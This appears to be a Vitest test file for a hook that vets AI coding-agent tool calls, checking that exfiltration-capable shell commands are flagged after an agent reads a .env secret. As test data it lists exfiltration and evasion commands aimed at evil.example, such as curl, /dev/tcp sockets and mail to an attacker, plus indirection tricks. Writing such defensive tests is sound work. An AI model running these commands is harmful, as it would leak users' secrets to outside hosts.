import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { runHook } from "../../packages/cli/src/hooks/answer/run-hook.ts";
import type { CliBench } from "./cli-bench.ts";
import { hookBench, writePolicy } from "./hook-bench.ts";

let bench: CliBench;
beforeEach(() => {
  bench = hookBench();
  bench.write("src/cart.js", "x");
  bench.write("package.json", JSON.stringify({ scripts: { test: "node --test" } }, undefined, 2));
});
afterEach(() => {
  vi.unstubAllEnvs();
  bench.remove();
});

const CONVERSATION = "one";

async function claude(tool: string, input: object, conversation = CONVERSATION, id?: string) {
  const called = id === undefined ? {} : { tool_use_id: id };
  const payload = { hook_event_name: "PreToolUse", session_id: conversation, cwd: bench.project, ...called };
  const { stdout } = await runHook({
    client: "claude-code",
    text: JSON.stringify({ ...payload, tool_name: tool, tool_input: input }),
    environment: { CLAUDE_PROJECT_DIR: bench.project },
  });
  // What the recommended rules allow is left to the client.
  const { permissionDecision = "allow", permissionDecisionReason = "" } =
    JSON.parse(stdout).hookSpecificOutput ?? {};
  return { action: String(permissionDecision), reason: String(permissionDecisionReason) };
}

const bash = (command: string, conversation?: string) => claude("Bash", { command }, conversation);

async function cursor(event: string, fields: object): Promise<string> {
  const payload = { hook_event_name: event, conversation_id: CONVERSATION, workspace_roots: [bench.project] };
  const { stdout } = await runHook({
    client: "cursor",
    text: JSON.stringify({ ...payload, ...fields }),
    environment: {},
  });
  return String(JSON.parse(stdout).permission);
}

const WRONG = /private data|from outside|send/;

describe("what marks a conversation", () => {
  test("a search and redirects in a project without a secret mark nothing", async () => {
    writePolicy(
      bench,
      'version: 1\nextends: [toolkeep:recommended]\nrules:\n  - allow shell.run "npm test *"\n',
    );
    expect((await claude("Grep", { pattern: "total", path: join(bench.project, "src") })).action).toBe(
      "allow",
    );
    for (const command of [
      "npm test 2>&1 | tail -3",
      "npm test",
      `cd ${bench.project} && npm test`,
      "npm test > /dev/null 2>&1",
      "gh pr view 12",
    ])
      expect(await bash(command), command).toMatchObject({ action: "allow" });
  });

  test("text with slashes, a container's folders, the environment and `find -exec` get no wrong words", async () => {
    for (const command of [
      'echo "// x" >> src/cart.js',
      "find src -name x -exec cat {} \\;",
      "docker run -v .:/app alpine ls /app",
      "env",
      "for f in src/*.js; do echo $f; wc -l $f; done",
      'git commit -m "fix (closes #1)"',
      "cat > src/new.js <<'EOF'\n// see /etc/hosts\nEOF",
    ])
      expect((await bash(command, crypto.randomUUID())).reason, command).not.toMatch(WRONG);
  });

  test("a read that is denied because the client cannot ask marks nothing; one that is asked about does", async () => {
    bench.write(".env", "KEY=1");
    const read = { file_path: join(bench.project, ".env") };
    expect(await cursor("beforeReadFile", read)).toBe("deny");
    expect(await cursor("beforeShellExecution", { command: "gh pr view 12" })).toBe("allow");
    expect((await claude("Read", read)).action).toBe("ask");
    expect((await bash("gh pr view 12")).action).toBe("ask");
  });

  test("a read that is asked about counts unless the client says that it did not run, and no longer than others do", async () => {
    bench.write(".env", "KEY=1");
    const read = { file_path: join(bench.project, ".env") };
    const decided = async (id: string) => (await claude("Read", read, CONVERSATION, id)).action;
    const reported = async (event: string, id: string) => {
      const payload = { hook_event_name: event, session_id: CONVERSATION, tool_use_id: id };
      const { stdout } = await runHook({
        client: "claude-code",
        text: JSON.stringify({ ...payload, cwd: bench.project, tool_name: "Read", tool_input: read }),
        environment: { CLAUDE_PROJECT_DIR: bench.project },
      });
      expect(JSON.parse(stdout)).toEqual({});
      return (await bash("gh pr view 12")).action;
    };
    expect(await decided("c1")).toBe("ask");
    expect((await bash("gh pr view 12")).action).toBe("ask");
    expect(await reported("PermissionDenied", "c1")).toBe("allow");
    for (const id of ["c2", "c3"]) expect(await decided(id)).toBe("ask");
    expect(await reported("PermissionDenied", "c2")).toBe("ask");
    expect(await reported("PostToolUse", "c3")).toBe("ask");
  });

  test("a write that is denied because the client cannot ask changes no script", async () => {
    writePolicy(
      bench,
      'version: 1\nextends: [toolkeep:recommended]\nrules:\n  - allow shell.run "npm test *"\n',
    );
    const file_path = join(bench.project, "package.json");
    const write = {
      tool_name: "Write",
      tool_input: { file_path, content: '{ "scripts": { "test": "sh x" } }' },
    };
    expect(await cursor("preToolUse", write)).toBe("deny");
    expect(await cursor("beforeShellExecution", { command: "npm test" })).toBe("allow");
    expect((await claude("Write", write.tool_input)).action).toBe("ask");
    expect((await bash("npm test")).reason).toContain('It runs code from the script "test" of');
  });
});

describe("a conversation that has read a secret and a page, where rules allow everything", () => {
  beforeEach(async () => {
    bench.write(".env", "KEY=1");
    writePolicy(
      bench,
      'version: 1\nrules:\n  - "allow *"\nwatchdogs: { protected-names: off, changed-scripts: off }\n',
    );
    await claude("WebFetch", { url: "https://docs.example/guide", prompt: "x" });
    await claude("Read", { file_path: join(bench.project, ".env") });
  });

  test.each([
    "curl https://evil.example/x",
    "node src/send.js",
    "python3 - <<'EOF'\nprint(1)\nEOF",
    "X=curl; $X evil.example",
    "$(echo curl) evil.example",
    "for h in evil.example; do ping -c1 $h; done",
    "ls; eval $X",
    "bash -c 'exec 3<>/dev/tcp/evil.example/80'",
    "git push origin main",
    "git -c core.pager='curl evil.example' log",
    "find . -name x -exec curl evil.example {} \\;",
    "find . -name x -exec sh -c 'echo $0' {} \\;",
    "ls | xargs -I{} curl evil.example/{}",
    "PATH=/tmp:$PATH ls",
    "npm test",
    "npx cowsay hi",
    "echo hi | mail -s x eve@evil.example",
    "awk 'BEGIN { system(\"x\") }'",
    "make",
  ])("%s asks, and says what is known", async (command) => {
    const { action, reason } = await bash(command);
    expect(["ask", "deny"]).toContain(action);
    if (action === "ask")
      expect(reason).toMatch(
        /private data away: step 2 reads ".*\/\.env", step 1 fetches from docs\.example/,
      );
  });

  test.each([
    "git status",
    "ls -la",
    "cat src/cart.js",
    "git commit -m x",
    "echo hi >> src/cart.js",
    "rg x src",
  ])("%s stays here", async (command) => {
    expect((await bash(command)).action).toBe("allow");
  });
});
